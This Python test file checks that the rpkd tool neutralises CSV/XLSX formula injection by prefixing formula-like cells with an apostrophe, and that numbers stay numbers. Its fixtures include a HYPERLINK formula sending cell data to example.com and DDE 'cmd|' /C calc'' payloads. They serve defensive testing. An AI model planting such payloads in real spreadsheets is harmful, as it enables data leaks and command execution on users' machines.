"""Formula-like cells are neutralised in every XLSX and CSV rpkd writes; numbers stay numbers.

Expected cells follow OWASP's CSV-injection guidance: text starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written with a leading apostrophe. Every test reads the
written file back.
"""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.csv as pacsv
import pytest

from rpkd.cli import common
from rpkd.errors import InvalidInput
from rpkd.findings import Finding
from rpkd.reports.plan_matrix import write_findings_csv
from rpkd.reports.xlsx import Sheet, neutralise, neutralise_table, write_workbook
from rpkd.settings import Settings
from rpkd.workflows import releases as wf
from rpkd.workflows.link import _write_queue
from rpkd.workflows.workspace import Workspace

LINK = '=HYPERLINK("http://example.com/x?d="&A1,"Klik")'
ATTACKS = {
    LINK: "'" + LINK,
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "  =1+1": "'  =1+1",
}
HARMLESS = ["Siti Aminah", "-15000", "+62", "1.234,5", "-0.25", "-", "62.03.01.1006", "a=b", ""]


@pytest.mark.parametrize(("text", "expected"), ATTACKS.items())
def test_formula_text_gets_an_apostrophe(text: str, expected: str) -> None:
    assert neutralise(text) == expected
    assert neutralise(expected) == expected  # written twice, still one apostrophe


@pytest.mark.parametrize("text", HARMLESS)
def test_names_numbers_and_codes_stay(text: str) -> None:
    assert neutralise(text) == text


def test_workbook_cells_read_back(tmp_path: Path) -> None:
    rows = [
        {"name": LINK, "amount": 750000, "share": -0.25, "note": "@SUM(A1)"},
        {"name": "Budi", "amount": -5, "share": None, "note": "-15000"},
    ]
    path = write_workbook(tmp_path / "b.xlsx", [Sheet("daftar", rows)])
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert cells == [
        ["'" + LINK, 750000, -0.25, "'@SUM(A1)"],
        ["Budi", -5, None, "-15000"],
    ]
    assert [c.data_type for c in next(sheet.iter_rows(min_row=2))] == ["s", "n", "n", "s"]


def test_neutralise_table_keeps_types_and_nulls() -> None:
    table = pa.table({"name": ["=1+1", None, "Rina"], "n": [-1, 2, None]})
    out = neutralise_table(table)
    assert out.schema == table.schema
    assert out.to_pylist() == [
        {"name": "'=1+1", "n": -1},
        {"name": None, "n": 2},
        {"name": "Rina", "n": None},
    ]


def _read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_cli_csv_output(monkeypatch: pytest.MonkeyPatch) -> None:
    buffer = io.StringIO()
    monkeypatch.setattr(sys, "stdout", buffer)
    common.emit([{"name": LINK, "estimate": -0.052, "n": 3}], "csv", "en")
    assert _read_csv(buffer.getvalue()) == [["name", "estimate", "n"], ["'" + LINK, "-0.052", "3"]]


def test_plan_findings_csv(tmp_path: Path) -> None:
    found = [Finding("code_unknown", "error", {"values": "x"}, sheet="Rencana", row=4,
                     field="agency", value="@cmd")]  # fmt: skip
    path = write_findings_csv(tmp_path / "f.csv", found, "en")
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert [(r["row"], r["value"]) for r in rows] == [("4", "'@cmd")]


def test_link_review_file(tmp_path: Path) -> None:
    queue = pa.table({"record": ["1"], "name": ["+cmd|' /C calc'!A0"], "match_probability": [0.7]})
    _write_queue(queue, tmp_path / "review.csv")
    rows = _read_csv((tmp_path / "review.csv").read_text(encoding="utf-8"))
    assert rows == [["record", "name", "match_probability"], ["1", "'+cmd|' /C calc'!A0", "0.7"]]


def test_arrow_csv_files(tmp_path: Path) -> None:
    table = pa.table({"area": ["=cmd()"], "estimate": [-0.125]})
    pacsv.write_csv(neutralise_table(table), tmp_path / "e.csv")
    back = pacsv.read_csv(tmp_path / "e.csv")
    assert back.to_pylist() == [{"area": "'=cmd()", "estimate": -0.125}]


def test_release_findings_report(tmp_path: Path) -> None:
    source = tmp_path / "source"
    source.mkdir()
    road = '=HYPERLINK("http://x","y")'  # not a road surface: code_unknown, value echoed
    with (source / "villages.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["desa_code", "households", "main_road"],
                                  ["62.03.01.1006", "310", road]])  # fmt: skip
    settings = Settings(workspace=tmp_path / "ws")
    with Workspace(settings) as ws, pytest.raises(InvalidInput) as refused:
        wf.import_release(ws, source, "r1")
    assert refused.value.code == "release_refused"
    (report_csv,) = (tmp_path / "ws" / "findings").glob("*.csv")
    (report_xlsx,) = (tmp_path / "ws" / "findings").glob("*.xlsx")
    rows = list(csv.DictReader(report_csv.open(encoding="utf-8-sig")))
    assert [(r["field"], r["value"]) for r in rows if r["field"] == "main_road"] == [
        ("main_road", "'" + road)
    ]
    sheet = openpyxl.load_workbook(report_xlsx).active
    assert sheet is not None
    assert "'" + road in {c.value for row in sheet.iter_rows() for c in row}
